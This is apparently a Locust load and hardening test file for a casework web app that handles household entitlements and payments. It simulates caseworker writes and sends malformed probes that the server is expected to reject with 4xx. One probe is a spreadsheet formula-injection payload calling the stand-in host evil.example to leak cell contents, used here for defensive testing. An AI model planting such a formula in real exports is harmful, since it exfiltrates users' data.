"""The hostile part of the realistic day (issue 13, item 7), beside the staff and public users of locustfile.py:
run both through benchmarks/load/hardening.py. Loopback only.

- `Writer`: caseworkers who search, open a household's entitlements, record payment requests (登记发放) and move
  cases (开始帮扶). Every write the server acknowledged goes to the journal, so that the runner can check afterwards
  that each is in the database, whole, with its audit row: nothing lost.
- `BadInput`: the probes of issue 13 (years out of range, NUL characters in queries and bodies, JSON nested 50,000
  deep, malformed JSON, absurd ids, formula text, missing files, bad public forms) mixed into the day. Each must be
  answered 4xx; any other answer counts as a failure under the name `BAD <probe>`. A page's filter may drop a value
  outside its choices and show everything: those probes (LENIENT, named `FILTER <probe>`) only must not be 5xx.

Every response's status is counted by name (all users, these and locustfile.py's), and written with the journal to
BANGFU_LOAD_CHECKS as JSON when locust quits: the runner reports 5xx from it.
"""

from __future__ import annotations

import datetime
import json
import os
import random
import re
import threading
import uuid
from collections import defaultdict
from pathlib import Path

from locust import HttpUser, between, events, task

PASSWORD = "bangfu-demo-2019"  # the demo accounts' (bangfu/demo/loader.py)
CASEWORKERS = ["caseworker", "caseworker_wx"]
TOKEN = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')
RUN = os.environ.get("BANGFU_LOAD_RUN", uuid.uuid4().hex[:8])  # marks this run's payment requests
OUT = os.environ.get("BANGFU_LOAD_CHECKS", "")

STATUSES: dict[str, dict[str, int]] = defaultdict(lambda: defaultdict(int))
JOURNAL: list[dict] = []  # acknowledged writes
UNANSWERED: list[dict] = []  # writes sent without an answer (timeout, reset): they may or may not be stored
_lock = threading.Lock()


@events.request.add_listener
def _count(name: str, response, exception, **_) -> None:
    status = getattr(response, "status_code", 0) or 0
    with _lock:
        STATUSES[name][str(status)] += 1


@events.quitting.add_listener
def _write(**_) -> None:
    if OUT:
        Path(OUT).write_text(json.dumps({"run": RUN, "statuses": STATUSES, "journal": JOURNAL,
                                         "unanswered": UNANSWERED}, ensure_ascii=False))


def _log_in(user: HttpUser, username: str) -> None:
    page = user.client.get("/accounts/login/", name="/accounts/login/ [GET]")
    token = TOKEN.search(page.text)
    user.client.post("/accounts/login/", name="/accounts/login/ [POST]",
                     data={"username": username, "password": PASSWORD,
                           "csrfmiddlewaretoken": token.group(1) if token else ""},
                     headers={"Referer": f"{user.host}/accounts/login/"})


def _csrf(user: HttpUser) -> dict:
    return {"X-CSRFToken": user.client.cookies.get("csrftoken", ""), "Referer": f"{user.host}/"}


class Writer(HttpUser):
    """A caseworker recording help: search, entitlements, a payment request now and then."""

    fixed_count = int(os.environ.get("BANGFU_LOAD_WRITERS", "10"))
    wait_time = between(3, 8)

    def on_start(self) -> None:
        _log_in(self, random.choice(CASEWORKERS))
        response = self.client.get("/api/v1/households", params={"per_page": 50, "status": "in_archive"},
                                   name="/api/v1/households?status=")
        self.households = [h["id"] for h in response.json()["items"]] if response.ok else []

    @task(1)
    def case_move(self) -> None:
        """开始帮扶 on an archived case of the area; two writers may race for one: the second hears 409."""
        response = self.client.get("/api/v1/cases", params={"state": "archived", "per_page": 50},
                                   name="/api/v1/cases?state=")
        if not response.ok or not response.json()["items"]:
            return
        case = random.choice(response.json()["items"])
        with self.client.post(f"/api/v1/cases/{case['id']}/start-help", headers=_csrf(self),
                              json={"version": case["version"], "reason": f"负载测试 {RUN}"},
                              name="/api/v1/cases/[id]/start-help (case move)", catch_response=True) as answer:
            if answer.status_code == 200:
                with _lock:
                    JOURNAL.append({"case": case["id"], "version": answer.json()["version"]})
            elif answer.status_code == 409:  # the other writer was first: a right answer, not an error
                answer.success()
            elif answer.status_code == 0:
                with _lock:
                    UNANSWERED.append({"case": case["id"]})

    @task(3)
    def search(self) -> None:
        self.client.get("/households/", params={"q": random.choice(["王", "李", "张", "3201", "刘"])},
                        name="/households/?q= (search)")

    @task(3)
    def entitlements(self) -> None:
        if self.households:
            self.client.get(f"/api/v1/households/{random.choice(self.households)}/entitlements",
                            name="/api/v1/households/[id]/entitlements")

    @task(2)
    def payment_request(self) -> None:
        if not self.households:
            return
        amount = f"{random.randint(100, 2000)}.{random.randint(0, 99):02d}"
        sent = {"household_id": random.choice(self.households), "amount": amount,
                "fund_source": random.choice(["union_funds", "fiscal", "charity"]),
                "paid_on": datetime.date.today().isoformat(),
                "description": f"负载测试 {RUN} {uuid.uuid4().hex[:12]}"}
        with self.client.post("/api/v1/ledger/requests", json=sent, headers=_csrf(self),
                              name="/api/v1/ledger/requests (payment)", catch_response=True) as response:
            if response.status_code == 201:
                with _lock:
                    JOURNAL.append({**sent, "id": response.json()["id"]})
            elif response.status_code == 0:
                with _lock:
                    UNANSWERED.append(sent)


def _deep(depth: int) -> str:
    return "[" * depth + "]" * depth


# name -> (method, path, body or None, needs a login)
PROBES = {
    "ledger totals year=-1": ("GET", "/api/v1/ledger/totals?year=-1", None, True),
    "ledger totals year=0": ("GET", "/api/v1/ledger/totals?year=0", None, True),
    "ledger totals year=10000": ("GET", "/api/v1/ledger/totals?year=10000", None, True),
    "ledger entries year=20 digits": ("GET", "/api/v1/ledger/entries?year=" + "9" * 20, None, True),
    "ledger export year=-1": ("GET", "/api/v1/ledger/export.xlsx?year=-1", None, True),
    "households q=NUL (API)": ("GET", "/api/v1/households?q=a%00b", None, True),
    "households q=NUL (page)": ("GET", "/households/?q=a%00b", None, True),
    "household id 20 digits": ("GET", "/api/v1/households/" + "9" * 20, None, True),
    "token name NUL": ("POST", "/api/v1/accounts/tokens", json.dumps({"name": "a\u0000b"}), True),
    "payment description formula": ("POST", "/api/v1/ledger/requests", json.dumps(
        {"household_id": 1, "amount": "100", "fund_source": "union_funds", "paid_on": "2026-01-05",
         "description": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"}), True),
    "payment amount not a number": ("POST", "/api/v1/ledger/requests", json.dumps(
        {"household_id": 1, "amount": "abc", "fund_source": "union_funds", "paid_on": "2026-01-05",
         "description": "x"}), True),
    "missing document": ("GET", "/api/v1/documents/2147483000", None, True),
    "missing job result": ("GET", "/api/v1/exchange/jobs/2147483000/result", None, True),
    "assessment JSON 50,000 deep": ("POST", "/api/v1/assessments", _deep(50_000), False),
    "assessment malformed JSON": ("POST", "/api/v1/assessments", '{"as_of": "2026-', False),
    "assessment wrong types": ("POST", "/api/v1/assessments", json.dumps({"as_of": -1, "members": "x"}), False),
    "assessment NUL": ("POST", "/api/v1/assessments", json.dumps({"as_of": "2026-01-01\u0000"}), False),
    "settlement empty": ("POST", "/api/v1/settlements", "{}", False),
    "public medical total=-1": ("GET", "/public/medical/?total=-1&region=320100", None, False),
    "public self-check without CSRF": ("POST", "/public/selfcheck/", "region=320100", False),
}
# Filters of pages: a value that is not one of the filter's choices is dropped and the page shows everything (200);
# the bar there is no 5xx.
LENIENT = {
    "ledger page year=10000": ("GET", "/ledger/?year=10000", None, True),
    "household list page=-5": ("GET", "/households/?page=-5", None, True),
}


class BadInput(HttpUser):
    """Someone sending what should be refused: half logged in as a caseworker, half anonymous."""

    fixed_count = int(os.environ.get("BANGFU_LOAD_BAD", "4"))
    wait_time = between(1, 3)

    def on_start(self) -> None:
        self.logged_in = random.random() < 0.5
        if self.logged_in:
            _log_in(self, random.choice(CASEWORKERS))

    @task
    def probe(self) -> None:
        name, (method, path, body, login) = random.choice(
            [p for p in (PROBES | LENIENT).items() if self.logged_in or not p[1][3]])
        headers = {"Content-Type": "application/json"} if body is not None and path.startswith("/api/") else {}
        if body is not None and not path.startswith("/api/"):
            headers = {"Content-Type": "application/x-www-form-urlencoded"}
        if self.logged_in and method != "GET":
            headers |= _csrf(self)
        label = f"FILTER {name}" if name in LENIENT else f"BAD {name}"
        with self.client.request(method, path, data=body, headers=headers, name=label,
                                 catch_response=True) as response:
            if 400 <= response.status_code < 500 or (name in LENIENT and response.status_code < 500):
                response.success()
            else:
                response.failure(f"{response.status_code}: wanted a 4xx")
